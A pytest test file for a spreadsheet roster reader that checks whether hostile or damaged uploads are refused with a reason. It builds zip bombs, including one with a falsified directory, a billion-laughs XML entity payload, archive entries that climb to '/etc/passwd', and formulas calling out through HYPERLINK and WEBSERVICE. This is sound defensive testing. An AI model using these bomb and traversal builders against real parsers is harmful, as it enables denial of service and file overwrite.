"""Files that are hostile, damaged or something else are refused with a reason, quickly, and nothing swells."""

from __future__ import annotations

import io
import re
import struct
import time
import zipfile

import openpyxl
import pytest

from lunxun.org.rosters.reading import Unreadable, guess_layout, read_roster
from lunxun.org.rosters.reading.opening.refusals import REFUSALS, refuse
from tests.org.rosters.build import csv_bytes, saved, xls_bytes, xlsx_bytes

ROWS = [
    ["姓名", "单位", "职务", "手机"],
    ["张三", "区财政局", "局长", "13800000001"],
    ["李四", "区教育局", "局长", "13800000002"],
]
GOOD = xlsx_bytes({"名册": ROWS})


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(files: dict[str, bytes], extra: list[tuple[str, bytes]] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in [*files.items(), *(extra or [])]:
            archive.writestr(name, data)
    return out.getvalue()


def with_sheet(xml: bytes) -> bytes:
    return packed(parts(GOOD) | {"xl/worksheets/sheet1.xml": xml})


def compound(stream: str) -> bytes:
    """A compound file whose only stream has another name than Workbook."""
    data = xls_bytes({"a": ROWS})
    old = "Workbook".encode("utf-16-le").ljust(64, b"\0") + struct.pack("<H", 18)
    new = stream.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<H", 2 * len(stream) + 2)
    assert data.count(old) == 1
    return data.replace(old, new)


def with_password() -> bytes:
    """An .xls whose first record after BOF says that the rest is encrypted (FILEPASS)."""
    data = xls_bytes({"a": ROWS})
    start = data.index(b"\x09\x08\x10\x00")
    at = start + 20
    return data[:at] + b"\x2f\x00\x06\x00\x00\x00\x59\xb3\x0a\x9a" + data[at + 10 :]


def lying_bomb() -> bytes:
    """The directory says one kilobyte; what comes out is ten megabytes and more."""
    data = bytearray(with_sheet(b"<worksheet>" + b" " * 30_000_000))
    wanted = b"xl/worksheets/sheet1.xml"
    at = data.rfind(wanted)  # the central directory is at the end
    data[at - 22 : at - 18] = struct.pack("<I", 1000)
    return bytes(data)


def doctype(xml: bytes) -> bytes:
    bomb = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    head, _, rest = xml.partition(b"?>")
    return head + b"?>" + bomb + rest if rest else bomb + xml


HOSTILE = {
    "nothing": (b"", "empty_file"),
    "blanks": (b"  \r\n ", "empty_file"),
    "huge": (b"a," * 20_000_001, "too_large"),
    "cut off": (GOOD[: len(GOOD) // 2], "damaged"),
    "one byte wrong": (GOOD[:300] + bytes([GOOD[300] ^ 255]) + GOOD[301:], "damaged"),
    "bomb": (with_sheet(b"<worksheet>" + b"0" * 60_000_000), "bomb"),
    "bomb in a picture": (packed(parts(GOOD), [("xl/media/a.png", b"\0" * 60_000_000)]), "bomb"),
    "bomb with a lying directory": (lying_bomb(), "damaged"),
    "ten thousand members": (packed(parts(GOOD), [(f"xl/media/{n}.png", b"") for n in range(6000)]), "bomb"),
    "path upwards": (packed(parts(GOOD), [("../../etc/passwd", b"x")]), "archive_odd"),
    "absolute path": (packed(parts(GOOD), [("/etc/passwd", b"x")]), "archive_odd"),
    "drive": (packed(parts(GOOD), [("C:\\a.txt", b"x")]), "archive_odd"),
    "entities in a sheet": (with_sheet(doctype(parts(GOOD)["xl/worksheets/sheet1.xml"])), "entities"),
    "entities in the workbook": (
        packed(parts(GOOD) | {"xl/workbook.xml": doctype(parts(GOOD)["xl/workbook.xml"])}),
        "entities",
    ),
    "no workbook": (packed({"xl/styles.xml": b"<a/>"}), "damaged"),
    "sheet of rubbish": (with_sheet(b"<worksheet><sheetData><row><c"), "damaged"),
    "encrypted xlsx": (compound("EncryptedPackage"), "encrypted"),
    "encrypted xls": (with_password(), "encrypted"),
    "Word 97": (compound("WordDocument"), "not_a_table"),
    "Word": (packed({"word/document.xml": b"<a/>"}), "not_a_table"),
    "PowerPoint": (packed({"ppt/presentation.xml": b"<a/>"}), "not_a_table"),
    "archive of rosters": (packed({"a.xlsx": GOOD, "b.xlsx": GOOD}), "not_a_table"),
    "PDF": (b"%PDF-1.7\n...", "not_a_table"),
    "picture": (b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "not_a_table"),
    "photo": (b"\xff\xd8\xff\xe0" + b"\0" * 50, "not_a_table"),
    "RAR": (b"Rar!\x1a\x07\x00" + b"\0" * 50, "not_a_table"),
    "program": (b"MZ" + b"\0" * 80, "not_a_table"),
    "Excel 4": (b"\x09\x04\x06\x00\x00\x00\x10\x00" + b"\0" * 50, "too_old"),
    "single-file web page": (b"MIME-Version: 1.0\r\nX-Document-Type: Workbook\r\n", "web_archive"),
    "web page without a table": ("<html><body>你好</body></html>".encode(), "not_a_table"),
    "XML": (b'<?xml version="1.0"?><a/>', "not_a_table"),
    "JSON": (b'{"a": 1}', "not_a_table"),
    "random bytes": (bytes(range(128, 256)) * 40 + b"\x00\x01\x02", "not_a_table"),
    "bad bytes in text": ("姓名,手机\n".encode() + b"\xff\xff\xfe\xf8\xff\n" * 9, "unknown_encoding"),
    "cut compound file": (xls_bytes({"a": ROWS})[:700], "damaged"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_refused_with_its_reason(name: str) -> None:
    data, kind = HOSTILE[name]
    begun = time.monotonic()
    with pytest.raises(Unreadable) as caught:
        read_roster(data, "花名册.xlsx")
    assert caught.value.kind == kind, caught.value
    assert caught.value.reason and caught.value.suggestion
    assert time.monotonic() - begun < 15


def test_every_refusal_has_a_reason_and_a_way_out() -> None:
    assert [kind for kind, (*reasons, ways) in REFUSALS.items() if not all((*reasons, *ways))] == []
    assert [
        kind for kind in REFUSALS if re.search("[\u4e00-\u9fff]", refuse(kind, "7").said(english=True))
    ] == []


def test_guessing_refuses_too() -> None:
    with pytest.raises(Unreadable):
        guess_layout(GOOD[:200], "a.xlsx")


@pytest.mark.parametrize(
    "name", ["a.xlsx", "a.xls", "a.csv", "a.txt", "a", "../../a.xlsx", "C:\\a\\花名册.xls"]
)
def test_the_name_of_the_file_decides_nothing(name: str) -> None:
    for data in (GOOD, xls_bytes({"名册": ROWS}), csv_bytes(ROWS)):
        assert [person.name for person in read_roster(data, name).persons] == ["张三", "李四"]


def test_formulas_are_not_evaluated_and_links_not_opened() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in ROWS:
        sheet.append(row)
    sheet["D2"] = '=HYPERLINK("http://example.com/?"&A2,"13800000009")'
    sheet["C3"] = '=WEBSERVICE("http://example.com/")'
    draft = read_roster(saved(book), "a.xlsx")
    assert [person.phone for person in draft.persons] == ["", "13800000002"]
    assert [(m.row, m.column, m.heading) for m in draft.messages if m.kind == "formula_uncached"] == [
        (2, "D", "手机"),
        (3, "C", "职务"),
    ]


def test_cached_values_of_formulas_are_taken() -> None:
    xml = parts(GOOD)["xl/worksheets/sheet1.xml"]
    old = xml[xml.index(b'<c r="D2"') : xml.index(b"</c>", xml.index(b'<c r="D2"')) + 4]
    new = b'<c r="D2"><f>13800000000+7</f><v>13800000007</v></c>'
    draft = read_roster(with_sheet(xml.replace(old, new)), "a.xlsx")
    assert draft.persons[0].phone == "13800000007"
    assert [m.kind for m in draft.messages] == []


def test_macros_are_left_alone_and_told() -> None:
    draft = read_roster(packed(parts(GOOD), [("xl/vbaProject.bin", b"\xd0\xcf")]), "a.xlsm")
    assert ([m.kind for m in draft.messages], len(draft.persons)) == (["macros_present"], 2)


def test_links_to_other_books_are_told() -> None:
    draft = read_roster(packed(parts(GOOD), [("xl/externalLinks/externalLink1.xml", b"<a/>")]), "a.xlsx")
    assert [m.kind for m in draft.messages] == ["links_present"]


def test_a_stray_cell_at_the_far_end_does_no_harm() -> None:
    book = openpyxl.load_workbook(io.BytesIO(GOOD))
    book.active["XFD1048576"] = " "
    draft = read_roster(saved(book), "a.xlsx")
    assert [person.name for person in draft.persons] == ["张三", "李四"]
    assert [m.kind for m in draft.messages] == ["wide_sheet"]


def test_a_million_formatted_empty_rows_do_no_harm() -> None:
    xml = parts(GOOD)["xl/worksheets/sheet1.xml"]
    rows = b"".join(b'<row r="%d"><c r="A%d" s="0"/></row>' % (n, n) for n in range(4, 1_048_577))
    draft = read_roster(with_sheet(xml.replace(b"</sheetData>", rows + b"</sheetData>")), "a.xlsx")
    assert [person.name for person in draft.persons] == ["张三", "李四"]
